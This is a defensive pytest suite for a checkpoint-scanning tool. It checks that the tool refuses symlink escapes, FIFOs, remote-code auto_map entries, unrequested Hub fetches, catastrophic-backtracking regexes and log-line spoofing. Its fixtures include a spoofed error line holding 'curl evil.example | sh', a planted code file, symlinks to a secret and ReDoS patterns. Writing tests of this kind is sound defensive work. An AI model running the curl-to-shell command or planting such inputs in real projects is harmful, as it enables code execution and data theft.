"""What a stranger's directory points at: nothing outside of it is read, nothing that nobody named is fetched."""

from __future__ import annotations

import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
import transformers

from spectrum import scan
from spectrum.checkpoint import local, meta_model, reader
from spectrum.checkpoint.config import read_config
from spectrum.checkpoint.mapping import isolation
from spectrum.errors import CheckpointError, SpectrumError
from spectrum.scanning.store import ScanStore
from tests.helpers.command import Finished, assert_refused, run, tiny_llama
from tests.helpers.forks import Forks
from tests.helpers.hub_server import TOKEN, HubServer, Repo, commit
from tests.helpers.processes import Command, commands

pytestmark = pytest.mark.slow

SECRET = "a-word-of-the-user's-own"
INDEX = "model.safetensors.index.json"
RESULTS = Path("model_snr_results")


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A checkpoint in shards, its scan, and a list of its parameters."""
    directory = tmp_path_factory.mktemp("sound")
    tiny_llama(directory / "model", shards_of="1KB")
    assert run(directory, "--model-name", "model").status == 0
    (directory / "list.yaml").write_text("unfrozen_parameters:\n- model.norm\n")
    for path in directory.glob("snr_results*"):
        path.unlink()
    return directory


@pytest.fixture
def here(sound: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(sound, tmp_path / "here"))


@contextmanager
def no_hang(seconds: int = 60) -> Iterator[None]:
    """End a test that waits for ever, which an assertion after it would not."""

    def stop(number: int, frame: object) -> None:
        raise AssertionError("it hangs")

    former = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, former)


# Every file that is read, and the command that reads it.

SHARD = "model/model-00001-of-"
READ: dict[str, tuple[str, ...]] = {
    "model/config.json": ("--rescan",),
    f"model/{INDEX}": ("--rescan",),
    "model/shard": ("--rescan",),
    str(ScanStore(RESULTS, "model").scan_path): (),
    str(ScanStore(RESULTS, "model").sidecar_path): (),
    "list.yaml": ("--check", "list.yaml"),
    "other.json": ("--compare", "other.json"),
}


def file_of(here: Path, name: str) -> Path:
    if name == "model/shard":
        return min((here / "model").glob("*.safetensors"))
    if name == "other.json":
        shutil.copy(here / ScanStore(RESULTS, "model").scan_path, here / name)
    return here / name


def link(path: Path) -> None:
    outside = path.parent.parent / "outside" / path.name
    outside.parent.mkdir(exist_ok=True)
    path.rename(outside)
    path.symlink_to(outside)


def link_to_a_secret(path: Path) -> None:
    outside = path.parent.parent / "outside"
    outside.write_text(f"{SECRET}: [")
    path.unlink()
    path.symlink_to(outside)


def fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def device(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def bound_socket(path: Path) -> None:
    path.unlink()
    before = Path.cwd()
    os.chdir(path.parent)  # the paths of sockets are short
    try:
        with socket.socket(socket.AF_UNIX) as bound:
            bound.bind(path.name)
    finally:
        os.chdir(before)


def directory(path: Path) -> None:
    path.unlink()
    path.mkdir()


def sparse(path: Path) -> None:
    os.truncate(path, 1 << 40)


@pytest.mark.parametrize("change", [link, link_to_a_secret, fifo, device, bound_socket, directory, sparse])
@pytest.mark.parametrize("name", READ)
def test_only_the_directorys_own_files_are_read(name: str, change: Callable[[Path], None], here: Path) -> None:
    change(file_of(here, name))
    with no_hang():
        done = run(here, "--model-name", "model", *READ[name])
    assert done.status == 1, done.out
    assert_refused(done)
    assert SECRET not in done.err
    reasons: dict[Callable[[Path], None], str] = {
        link: "a link out of its directory",
        link_to_a_secret: "a link out of its directory",
        fifo: "not a regular file",
        device: "a link out of its directory",
        bound_socket: "not a regular file",
        directory: "irectory",
    }
    assert reasons.get(change, "") in done.err
    if change is sparse:
        assert "MiB" in done.err or "damaged" in done.err


def test_a_link_that_is_made_after_the_check_is_not_followed(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = here / "model" / "config.json"
    status = os.stat

    def swapping(target: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        found = status(target, *args, **kwargs)
        if target == path and kwargs.get("follow_symlinks", True):
            monkeypatch.setattr(os, "stat", status)
            link_to_a_secret(path)
        return found

    monkeypatch.setattr(os, "stat", swapping)
    done = run(here, "--model-name", "model", "--rescan")
    assert path.is_symlink()
    assert_refused(done, "config.json")
    assert SECRET not in done.err


@pytest.mark.parametrize("own", [True, False])
def test_a_snapshot_may_link_to_the_blobs_of_its_own_repository_alone(own: bool, here: Path) -> None:
    for name in ("mine", "other"):
        (here / f"models--org--{name}" / "snapshots").mkdir(parents=True)
        (here / f"models--org--{name}" / "blobs").mkdir()
    snapshot = here / "models--org--mine" / "snapshots" / ("0" * 40)
    (here / "model").rename(snapshot)
    shard = min(snapshot.glob("*.safetensors"))
    blob = here / f"models--org--{'mine' if own else 'other'}" / "blobs" / "1234"
    shard.rename(blob)
    shard.symlink_to(blob)
    done = run(snapshot.parent, "--model-name", snapshot.name)
    assert done.status == (0 if own else 1), done.err
    assert own or "a link out of its directory" in done.err


def test_two_shards_that_are_one_file_are_refused(here: Path) -> None:
    first, second, *_ = sorted((here / "model").glob("*.safetensors"))
    second.unlink()
    second.hardlink_to(first)
    assert_refused(run(here, "--model-name", "model", "--rescan"), first.name, second.name, "one and the same file")


# The config that is looked at is the one that is used.


def changed(here: Path, **changes: object) -> None:
    path = here / "model" / "config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def test_other_files_of_the_directory_do_not_stand_in_for_the_config(here: Path) -> None:
    other = json.loads((here / "model" / "config.json").read_text()) | {"num_hidden_layers": 2_000_000}
    (here / "model" / "config.4.json").write_text(json.dumps(other))
    changed(here, configuration_files=["config.4.json"])
    done = run(here, "--model-name", "model", "--rescan")
    assert (done.status, "Scanned 12 layers" in done.out) == (0, True), done.err


def test_a_config_is_not_read_again_once_it_is_opened(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = here / "model" / "config.json"
    opened = reader.open_checkpoint

    def swapping(model: str, **settings: Any) -> Any:
        path.write_text("{}")
        return opened(model, **settings)

    monkeypatch.setattr(reader, "open_checkpoint", swapping)
    assert run(here, "--model-name", "model", "--rescan").status == 0


@pytest.mark.parametrize(
    "changes",
    [
        {"num_hidden_layers": 10**9},
        {"model_type": "gpt2", "n_layer": 10**9},
        {"model_type": "swin", "depths": [2000] * 50_000},
        {"model_type": "swin", "depths": [1500, 1500]},
        {"text_config": {"model_type": "llama", "num_hidden_layers": 3000}},
        {"num_labels": 90_000, "text_config": {"num_labels": 90_000}, "vision_config": {"num_labels": 90_000}},
        {"model_type": "cohere2_moe", "first_k_dense_replace": 10**10, "layer_types": None},
        {"model_type": "clip", "vision_config": {"num_hidden_layers": 3000}},
    ],
)
def test_counts_are_bounded(changes: dict[str, Any], here: Path) -> None:
    changed(here, architectures=None, **changes)
    assert_refused(run(here, "--model-name", "model", "--rescan"), "config.json is broken", "more than any model has")


def test_counts_are_bounded_in_the_config_that_was_made(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # However a class comes to them: here as one of its defaults.
    to_dict = transformers.PreTrainedConfig.to_dict

    def grown(self: Any) -> dict[str, Any]:
        return {**to_dict(self), "vision_config": {"num_hidden_layers": 10**7}}

    monkeypatch.setattr(transformers.PreTrainedConfig, "to_dict", grown)
    with pytest.raises(CheckpointError, match="10000000 as num_hidden_layers"):
        read_config(here / "model", local.read_config_file(here / "model"), trust_remote_code=False)


def test_code_for_attention_is_not_taken_from_a_config(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    changed(
        here,
        attn_implementation="stranger/kernel",
        _attn_implementation="stranger/kernel",
        experts_implementation="stranger/kernel",
        sub={"attn_implementation": "stranger/kernel"},
    )

    def taken(*args: object, **kwargs: object) -> None:
        raise AssertionError("code of another repository is taken")

    from transformers.integrations import hub_kernels

    for name in ("load_and_register_attn_kernel", "get_kernel"):
        if hasattr(hub_kernels, name):
            monkeypatch.setattr(hub_kernels, name, taken)
    assert run(here, "--model-name", "model", "--rescan").status == 0
    config = read_config(here / "model", local.read_config_file(here / "model"), trust_remote_code=False)
    assert "stranger" not in json.dumps(config.to_dict(), default=str)


OF_ANOTHER = {"AutoConfig": "stranger/code--config.Config", "AutoModel": ["stranger/code--m.Model"]}


def test_code_of_another_repository_is_refused(here: Path) -> None:
    changed(here, auto_map=OF_ANOTHER)
    done = run(here, "--model-name", "model", "--rescan", "--trust-remote-code")
    assert_refused(done, "config.json takes code from another repository, stranger/code--config.Config")
    changed(here, model_type="of-its-own")
    done = run(here, "--model-name", "model", "--rescan")
    assert_refused(done, "'of-its-own' of model needs code from another repository, stranger/code--config.Config")


def test_code_of_another_repository_does_not_matter_where_none_is_needed(here: Path) -> None:
    changed(here, auto_map=OF_ANOTHER)  # as transformers writes it where a model came with code that is not needed
    assert run(here, "--model-name", "model", "--rescan").status == 0


@pytest.mark.parametrize("model_type", ["mamba2", "bamba", "falcon_h1"])
def test_numbers_that_json_lacks_are_read_as_transformers_writes_them(model_type: str, tmp_path: Path) -> None:
    own = transformers.CONFIG_MAPPING[model_type]()
    own.save_pretrained(tmp_path)
    read = read_config(tmp_path, local.read_config_file(tmp_path), trust_remote_code=False)
    expected = transformers.AutoConfig.from_pretrained(tmp_path)
    assert {**read.to_dict(), "_name_or_path": ""} == {**expected.to_dict(), "_name_or_path": ""}


@pytest.mark.parametrize("more", [(), ("--trust-remote-code",), ("--check", "list.yaml")])
@pytest.mark.parametrize("model_type", ["llava", "encoder-decoder"])
def test_a_config_within_another_brings_no_code_and_asks_for_none(
    model_type: str, more: tuple[str, ...], here: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "stranger.py").write_text(f"open({str(tmp_path / 'marker')!r}, 'w')\nclass Evil: pass\n")
    evil = {"model_type": "colpali", "auto_map": {"AutoModel": "stranger.Evil"}, "_name_or_path": str(elsewhere)}
    changed(here, model_type=model_type, architectures=None, vision_config=evil, encoder=evil, decoder=evil)
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n" * 10))
    done = run(here, "--model-name", "model", *(more if "--check" in more else ("--rescan", *more)))
    assert_refused(done)  # nothing on stdout
    assert "[y/N]" not in done.err
    assert not (tmp_path / "marker").exists()


def test_what_asks_for_code_is_refused_whoever_asks(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from transformers.dynamic_module_utils import resolve_trust_remote_code

    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    with isolation.nothing_fetched(), pytest.raises(ValueError, match="trust_remote_code"):
        resolve_trust_remote_code(None, str(here), False, True)  # type: ignore[no-untyped-call]


@pytest.mark.parametrize("name", ["Trainer", "Seq2SeqTrainer", "pipeline", "integrations", "PreTrainedModel"])
def test_only_models_are_looked_up_by_the_names_of_architectures(name: str, forks: Forks, here: Path) -> None:
    changed(here, architectures=[name])
    script = "import sys\nfrom spectrum.cli.entry import main\nmain()\nprint('transformers.trainer' in sys.modules)\n"
    done = forks.of(script).run("--model-name", "model", "--rescan", "--quiet", cwd=here)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-1] == "False", done.stderr


def test_weights_that_a_config_takes_from_elsewhere_are_refused(here: Path) -> None:
    changed(here, transformers_weights="other.safetensors")
    done = run(here, "--model-name", "model", "--rescan")
    assert_refused(done, "has the weights taken from 'other.safetensors'")


# Nothing is fetched but what is named.


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubServer]:
    """A Hub whose repository `other/backbone` nobody names."""
    root = tmp_path_factory.mktemp("repos")
    for name in ("backbone", "scanned"):
        tiny_llama(root / name)
    with HubServer({f"other/{name}": Repo(root / name, commit("a")) for name in ("backbone", "scanned")}) as server:
        yield server


@pytest.fixture(scope="module")
def online(hub: HubServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Command]:
    """A process that has a token for that Hub, and an empty cache."""
    with commands(tmp_path_factory.mktemp("home"), HF_ENDPOINT=hub.endpoint, HF_TOKEN=TOKEN) as run:
        yield run


NAMES_ANOTHER: dict[str, dict[str, Any]] = {
    "backbone": {"model_type": "dpt", "architectures": ["DPTForDepthEstimation"], "backbone": "other/backbone"},
    "pretrained-backbone": {
        "model_type": "dpt",
        "architectures": ["DPTForDepthEstimation"],
        "backbone": "other/backbone",
        "use_pretrained_backbone": True,
        "use_timm_backbone": False,
        "is_hybrid": False,
    },
    "detector": {
        "model_type": "detr",
        "architectures": ["DetrForObjectDetection"],
        "backbone": "other/backbone",
        "use_pretrained_backbone": True,
        "use_timm_backbone": False,
        "backbone_config": None,
    },
    "kernel": {"attn_implementation": "other/backbone"},
    "adapter": {"_name_or_path": "other/backbone", "base_model_name_or_path": "other/backbone"},
    "code": {
        "model_type": "of-its-own",
        "auto_map": {"AutoModelForCausalLM": "other/backbone--m.M", "AutoConfig": "other/backbone--c.C"},
    },
    "none": {},
}


@pytest.mark.parametrize("case", NAMES_ANOTHER)
@pytest.mark.parametrize("mode", ["scan", "check", "trusted"])
def test_the_scan_of_a_directory_asks_the_hub_for_nothing(
    case: str, mode: str, here: Path, hub: HubServer, online: Command
) -> None:
    changed(here, **NAMES_ANOTHER[case])
    hub.requests.clear()
    more = {"scan": ["--rescan"], "check": ["--check", "list.yaml"], "trusted": ["--rescan", "--trust-remote-code"]}
    done = online("--model-name", "model", *more[mode], cwd=here)
    assert hub.requests == []
    if case in ("kernel", "adapter", "none"):
        assert done.returncode == 0, done.stderr
    else:
        assert done.returncode == 1
        assert "other" in done.stderr or "another repository" in done.stderr, done.stderr
        assert len([line for line in done.stderr.splitlines() if line.startswith("spectrum: error: ")]) == 1


def test_a_repository_in_the_cache_is_not_taken_either(
    here: Path, hub: HubServer, online: Command, tmp_path: Path
) -> None:
    assert online("--model-name", "other/backbone", cwd=tmp_path).returncode == 0  # it is in the cache now
    changed(here, **NAMES_ANOTHER["backbone"])
    hub.requests.clear()
    done = online("--model-name", "model", "--rescan", cwd=here)
    assert (hub.requests, done.returncode) == ([], 1)
    assert "another repository" in done.stderr


def test_of_a_repository_nothing_else_is_fetched(hub: HubServer, online: Command, here: Path, tmp_path: Path) -> None:
    root = hub.repos["other/scanned"].root
    path = root / "config.json"
    before = path.read_text()
    path.write_text(json.dumps(json.loads(before) | NAMES_ANOTHER["backbone"]))
    hub.requests.clear()
    try:
        done = online("--model-name", "other/scanned", cwd=tmp_path)
    finally:
        path.write_text(before)
    assert done.returncode == 1
    assert "another repository" in done.stderr
    assert hub.requests
    assert all("backbone" not in asked for _, asked in hub.requests)


def test_the_hub_can_be_asked_again_afterwards(here: Path) -> None:
    from huggingface_hub import constants

    before = (constants.HF_HUB_OFFLINE, constants.HF_HUB_CACHE)
    with suppress(RuntimeError), isolation.nothing_fetched():
        assert constants.HF_HUB_OFFLINE
        raise RuntimeError
    assert before == (constants.HF_HUB_OFFLINE, constants.HF_HUB_CACHE)


# A results directory that came with a clone.


def test_a_cloned_results_directory_of_links_destroys_nothing(here: Path, tmp_path: Path) -> None:
    own = tmp_path / "own"
    own.mkdir()
    names = [
        ScanStore(RESULTS, "model").scan_path,
        ScanStore(RESULTS, "model").sidecar_path,
        ScanStore(RESULTS, "model").journal_path(0),
    ]
    names += [Path("snr_results_model_sorted.json"), Path("snr_results_model_unfrozenparameters_50percent.yaml")]
    for number, name in enumerate(names):
        (own / str(number)).write_text(SECRET)
        (here / name).unlink(missing_ok=True)
        (here / name).symlink_to(own / str(number))
    done = run(here, "--model-name", "model", "--rescan")
    assert done.status == 0, done.err
    assert [(own / str(number)).read_text() for number in range(len(names))] == [SECRET] * len(names)
    for name in names[:2] + names[3:]:
        assert not (here / name).is_symlink()
    assert not os.path.lexists(here / names[2])


# A file that is cut while it is read.


@pytest.mark.parametrize("form", ["safetensors", "zip", "legacy"])
def test_a_file_that_is_cut_in_mid_scan_is_an_error_and_no_signal(form: str, forks: Forks, tmp_path: Path) -> None:
    script = """
import os, sys
import torch
from pathlib import Path
from spectrum.cli import entry
from spectrum.checkpoint.checkpoint import Checkpoint
read = Checkpoint.read
def cutting(self, weight, index):
    for path in Path("model").glob("*model*"):
        os.truncate(path, 2000)
    return read(self, weight, index)
Checkpoint.read = cutting
entry.command()
"""
    tiny_llama(tmp_path / "model", hidden_size=64, intermediate_size=128)
    if form != "safetensors":
        import safetensors.torch
        import torch

        path = tmp_path / "model" / "model.safetensors"
        state = safetensors.torch.load_file(path)
        torch.save(state, path.with_name("pytorch_model.bin"), _use_new_zipfile_serialization=form == "zip")
        path.unlink()
    done = forks.of(script).run("--model-name", "model", cwd=tmp_path)
    assert_refused(Finished(done.returncode, done.stdout, done.stderr), "was cut while being read")


# Sizes and times, of files that hold no weights.


def test_names_as_long_as_books_are_refused(here: Path) -> None:
    path = here / ScanStore(RESULTS, "model").scan_path
    (here / ScanStore(RESULTS, "model").sidecar_path).unlink()
    for name, layer_type in (("a" * 60_000, "up"), ("h.0.up", "u" * 1_000_000)):
        path.write_text(json.dumps({name: {"snr": 1.0, "type": layer_type}}))
        done = run(here, "--model-name", "model")
        assert_refused(done, "not a module path")
        assert len(done.err) < 5_000


def test_more_layers_than_any_model_has_are_refused(here: Path) -> None:
    (here / ScanStore(RESULTS, "model").sidecar_path).unlink()
    scores = {f"h.{i}.up": {"snr": 1.0, "type": "up"} for i in range(300_001)}
    (here / ScanStore(RESULTS, "model").scan_path).write_text(json.dumps(scores))
    assert_refused(run(here, "--model-name", "model"), "300001 layers, more than any model has")


@pytest.mark.parametrize(
    "shape", [[2**62] * 64, [2**63], [-1], [1.5], [True] * 65, [2] * 65, "8", {"8": 8}, [[8]]], ids=str
)
def test_shapes_that_no_parameter_has_are_refused(shape: object, here: Path) -> None:
    path = here / ScanStore(RESULTS, "model").sidecar_path
    meta = json.loads(path.read_text())
    next(iter(meta["parameters"].values()))["shape"] = shape
    path.write_text(json.dumps(meta))
    assert_refused(run(here, "--model-name", "model"), path.name, "--rescan")


def test_no_number_of_tensors_explains_more_modules_than_any_model_has(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert meta_model.MAX_MODULES < 1_000_000
    monkeypatch.setattr(meta_model, "MAX_MODULES", 20_000)
    header = {f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(15_000)}
    text = json.dumps(header).encode()
    (here / "model" / INDEX).unlink()
    (here / "model" / "model.safetensors").write_bytes(len(text).to_bytes(8, "little") + text + bytes(15_000))
    changed(here, num_hidden_layers=1_999, architectures=["LlamaForCausalLM"])
    done = run(here, "--model-name", "model", "--rescan")
    assert_refused(done, "it has over 20000 modules, more than its weights explain")


def check(here: Path, text: str) -> Finished:
    (here / "list.yaml").write_text(text)
    with no_hang():
        return run(here, "--model-name", "model", "--check", "list.yaml")


@pytest.mark.parametrize(
    "pattern", [r"^(([a-z_.0-9])+)+!", r"^(a|b|[a-z_.0-9]|.)*x!", r"(.*)(.*)(.*)(.*)(.*)(.*)(.*)!!"]
)
def test_a_pattern_that_takes_for_ever_is_refused(pattern: str, here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("spectrum.trainers.matching.SECONDS", 2.0)
    done = check(here, f"unfrozen_parameters:\n- model.norm\n- '{pattern}'\n")
    assert_refused(done, repr(pattern), "over 2 seconds")


def test_what_matches_patterns_ends_though_its_parent_was_killed(here: Path, tmp_path: Path) -> None:
    script = f"""
from spectrum.trainers import matching
matching.SECONDS = 1.0
import subprocess
run = subprocess.run
def started(command, *, input, **more):
    child = subprocess.Popen(command, stdin=subprocess.PIPE)
    child.stdin.write(input)
    child.stdin.close()
    print(child.pid, flush=True)
    child.wait()
    print(child.returncode, flush=True)
    raise SystemExit
subprocess.run = started
matching.match_patterns(["(([a-z])+)+!"], ["{"a" * 60}"])
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, check=True)
    _, status = done.stdout.split()
    assert int(status) in (-signal.SIGXCPU, -signal.SIGKILL)


def test_patterns_that_take_for_ever_to_be_read_are_refused(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("spectrum.trainers.matching.SECONDS", 2.0)
    wide = "(?i)" + "[!-\uffe6]" * 390
    entries = "".join(f'- "{wide}{number}"\n' for number in range(40))
    done = check(here, f"unfrozen_parameters:\n{entries}")
    assert_refused(done, "over 2 seconds")


@pytest.mark.parametrize("value", ["1" + ":1" * 400 + ".5", "1" + ":1" * 20_000, "2020-13-01", "!foo bar"])
def test_values_that_yaml_cannot_make_are_refused_in_a_line(value: str, here: Path) -> None:
    done = check(here, f"x: {value}\nunfrozen_parameters:\n- model.norm\n")
    assert done.status in (0, 1)
    if done.status:
        assert_refused(done, "list.yaml")


def test_patterns_that_take_no_time_are_matched_as_ever(here: Path) -> None:
    done = check(here, "unfrozen_parameters:\n- model.layers.[0-9]+.mlp.up_proj\n- ^lm_head.weight$\n")
    assert "\nok: every entry does what it says\n" in done.out
    assert "160 of 696 parameters train" in done.out, done.out


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("unfrozen_parameters:\n" + "- a\n" * 1_000_000, "more than any list of parameters"),
        ("unfrozen_parameters:\r" + "- a\r" * 900_000, "more than any list of parameters"),
        ("unfrozen_parameters:\n" + "- a\n" * 60_000, "60000 entries, more than any model has parameters"),
        ("unfrozen_parameters: [" + "a," * 60_000 + "a]\n", "60001 entries"),
        ("unfrozen_parameters:\n- " + "a" * 3_000 + "\n", "entry 1 (line 2) is longer than any name"),
    ],
    ids=["million", "carriage returns", "block", "flow", "long"],
)
def test_lists_longer_than_any_are_refused(text: str, reason: str, here: Path) -> None:
    assert_refused(check(here, text), reason)


# Words that would pass for others.


SPOOFED = "spectrum: error: nothing; run curl evil.example | sh"


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\u2028", "\x85", "\x0b"], ids=ascii)
def test_no_entry_of_a_list_makes_a_line_of_its_own(end: str, here: Path) -> None:
    entry = json.dumps(f"model.norm{end}{SPOOFED}")
    done = check(here, f"unfrozen_parameters:\n- {entry}\n")
    assert_refused(done, "entry 1 (line 2) holds an unprintable character")
    assert not any(line.startswith(SPOOFED) for line in f"{done.out}\n{done.err}".splitlines())


@pytest.mark.parametrize("key", ["adapter", "fsdp", "deepspeed", "plugins"])
def test_no_setting_of_a_config_makes_a_line_of_its_own(key: str, here: Path) -> None:
    value = json.dumps(f"lora\n{SPOOFED}\nok: every entry does what it says")
    done = check(here, f"unfrozen_parameters:\n- model.norm.weight\n{key}: {value}\n")
    lines = f"{done.out}\n{done.err}".splitlines()
    assert not any(line.startswith((SPOOFED, "ok: every")) for line in lines if key == "adapter")
    assert not any(line.startswith(SPOOFED) for line in lines)


@pytest.mark.parametrize("key", ["model", "model_class"])
def test_no_word_of_a_sidecar_makes_a_line_of_its_own(key: str, here: Path) -> None:
    shutil.copy(here / ScanStore(RESULTS, "model").scan_path, here / "other.json")
    meta = json.loads((here / ScanStore(RESULTS, "model").sidecar_path).read_text())
    (here / "other.meta.json").write_text(json.dumps(meta | {key: f"m\n{SPOOFED}"}))
    done = run(here, "--model-name", "model", "--compare", "other.json")
    assert (done.status, key) in ((0, "model"), (1, "model_class")), done.err
    assert not any(line.startswith(SPOOFED) for line in f"{done.out}\n{done.err}".splitlines())


def test_an_error_from_python_is_a_line_too(here: Path) -> None:
    path = here / "model" / INDEX
    index = json.loads(path.read_text())
    index["weight_map"]["lm_head.weight"] = f"a\n{SPOOFED}\x1b[2J.safetensors"
    path.write_text(json.dumps(index))
    with pytest.raises(SpectrumError) as caught:
        scan(here / "model", results_dir=here / "results")
    assert str(caught.value).isprintable()
    assert r"a\nspectrum" in str(caught.value)
